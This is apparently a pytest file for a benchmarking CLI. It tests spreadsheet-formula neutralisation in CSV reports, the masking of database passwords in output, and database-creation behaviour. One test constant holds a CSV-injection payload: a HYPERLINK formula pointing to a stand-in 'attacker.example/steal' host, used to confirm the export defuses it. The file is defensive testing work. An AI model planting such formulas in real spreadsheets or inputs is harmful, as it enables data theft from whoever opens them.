"""What the CLI must never do: run a spreadsheet formula, print a password, start over silently."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import socket
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from reelbench.cli import main
from reelbench.report.export import spreadsheet_safe

FORMULA = '=HYPERLINK("http://attacker.example/steal","click")'

SPEC = f"""
[experiment]
name = "sheet"

[canonical]
width = 64
height = 48
fps = 8
preset = "ultrafast"

[[items]]
id = "formula"
prompt = '{FORMULA}'

[[items]]
id = "minus"
prompt = "-2+3 is not a formula here"

[[items]]
id = "plain"
prompt = "a cat"

[[variants]]
key = "orbit"
provider = "synthetic"
params = {{ seconds = 0.25, width = 64, height = 48, fps = 8 }}
"""


def invoke(args: list[str], cwd: Path) -> tuple[int, str, str]:
    with contextlib.chdir(cwd):
        result = CliRunner().invoke(main, args, catch_exceptions=False)
    return result.exit_code, result.stdout, result.stderr


@pytest.fixture
def finished(tmp_path: Path) -> str:
    spec = tmp_path / "sheet.toml"
    spec.write_text(SPEC)
    url = f"sqlite:///{tmp_path / 'db.sqlite'}"
    code, _, err = invoke(["run", str(spec), "--db", url], tmp_path)
    assert code == 0, err
    return url


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        ("", ""),
    ],
)
def test_formula_triggers_get_a_leading_quote(text: str, safe: str) -> None:
    assert spreadsheet_safe(text) == safe


def test_csv_neutralizes_formula_prompts_and_json_keeps_them(finished: str, tmp_path: Path) -> None:
    code, out, _ = invoke(["report", "sheet", "--db", finished, "--format", "csv"], tmp_path)
    assert code == 0
    rows = {r["item_key"]: r for r in csv.DictReader(io.StringIO(out))}
    assert rows["formula"]["prompt"] == "'" + FORMULA
    assert rows["minus"]["prompt"] == "'-2+3 is not a formula here"
    assert rows["plain"]["prompt"] == "a cat"
    # Numbers stay numbers (negative ones too would not be touched).
    assert float(rows["plain"]["seed"]) >= 0
    assert all(not v.startswith("'") for k, v in rows["plain"].items() if "." in k)

    code, out, _ = invoke(["report", "sheet", "--db", finished, "--json"], tmp_path)
    prompts = {r["item_key"]: r["prompt"] for r in json.loads(out)["runs"]}
    assert prompts["formula"] == FORMULA

    code, out, _ = invoke(
        ["report", "sheet", "--db", finished, "--format", "csv", "--csv-raw"], tmp_path
    )
    rows = {r["item_key"]: r for r in csv.DictReader(io.StringIO(out))}
    assert rows["formula"]["prompt"] == FORMULA


def test_cells_grid_shows_each_item_and_variant(finished: str, tmp_path: Path) -> None:
    code, out, _ = invoke(["report", "sheet", "--db", finished, "--cells",
                           "--cell-metric", "sharpness"], tmp_path)  # fmt: skip
    assert code == 0
    grid = out[out.index("Cells:") :]
    assert "sharpness" in grid.split("┏")[0], "the title names the metric"
    for item in ("formula", "minus", "plain"):
        assert item in grid
    assert grid.count("1/1") == 3
    code, _, err = invoke(["report", "sheet", "--db", finished, "--cells",
                           "--cell-metric", "nope"], tmp_path)  # fmt: skip
    assert code == 2 and "not a metric of this report" in err


@pytest.mark.parametrize("command", [["status"], ["retry", "x"], ["cancel", "x"], ["worker"]])
def test_read_commands_refuse_a_missing_sqlite_file(command: list[str], tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'typo' / 'x.db'}"
    code, _, err = invoke([*command, "--db", url], tmp_path)
    assert code == 2
    assert "no database at" in err
    assert not (tmp_path / "typo").exists(), "nothing was created"


def test_submit_creates_a_new_database_and_says_so(tmp_path: Path) -> None:
    spec = tmp_path / "sheet.toml"
    spec.write_text(SPEC)
    path = tmp_path / "new" / "x.db"
    code, _, err = invoke(["submit", str(spec), "--db", f"sqlite:///{path}"], tmp_path)
    assert code == 0
    assert f"created new database sqlite:///{path}" in err
    assert path.is_file()
    code, _, err = invoke(["submit", str(spec), "--db", f"sqlite:///{path}"], tmp_path)
    assert code == 0 and "created new database" not in err


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


SECRET = "s3cr3t-PASS-word"


@pytest.mark.parametrize(
    "command",
    [["run", "SPEC"], ["submit", "SPEC"], ["status"], ["report", "x"], ["worker", "--drain"],
     ["db", "upgrade"]],
)  # fmt: skip
def test_a_password_in_the_database_url_is_never_printed(
    command: list[str], tmp_path: Path
) -> None:
    spec = tmp_path / "sheet.toml"
    spec.write_text(SPEC)
    # Nothing listens there: every command meets a connection failure.
    url = f"postgresql+psycopg://reel:{SECRET}@127.0.0.1:{_free_port()}/reelbench"
    args = [str(spec) if a == "SPEC" else a for a in command]
    done = subprocess.run(
        [sys.executable, "-m", "reelbench", *args, "--db", url],
        capture_output=True, text=True, timeout=120, cwd=tmp_path,
        env={**os.environ, "PGCONNECT_TIMEOUT": "2"},
    )  # fmt: skip
    assert done.returncode == 1, done.stderr
    output = done.stdout + done.stderr
    assert SECRET not in output
    assert "reel:***@127.0.0.1" in output, output


def test_the_environment_variable_password_is_not_printed_either(tmp_path: Path) -> None:
    url = f"postgresql+psycopg://reel:{SECRET}@127.0.0.1:{_free_port()}/reelbench"
    done = subprocess.run(
        [sys.executable, "-m", "reelbench", "status"],
        capture_output=True, text=True, timeout=120, cwd=tmp_path,
        env={**os.environ, "REELBENCH_DATABASE_URL": url},
    )  # fmt: skip
    assert done.returncode == 1
    assert SECRET not in done.stdout + done.stderr


def test_worker_stops_at_once_when_it_cannot_write_its_artifact_root(
    sqlite_url: str, tmp_path: Path
) -> None:
    blocked = tmp_path / "file-not-folder"
    blocked.write_text("a file where the artifact root should be")
    code, _, err = invoke(
        ["worker", "--drain", "--db", sqlite_url, "--artifacts", str(blocked / "art")], tmp_path
    )
    assert code == 2
    lines = err.strip().splitlines()
    assert len(lines) == 1 and "cannot write the artifact root" in lines[0]
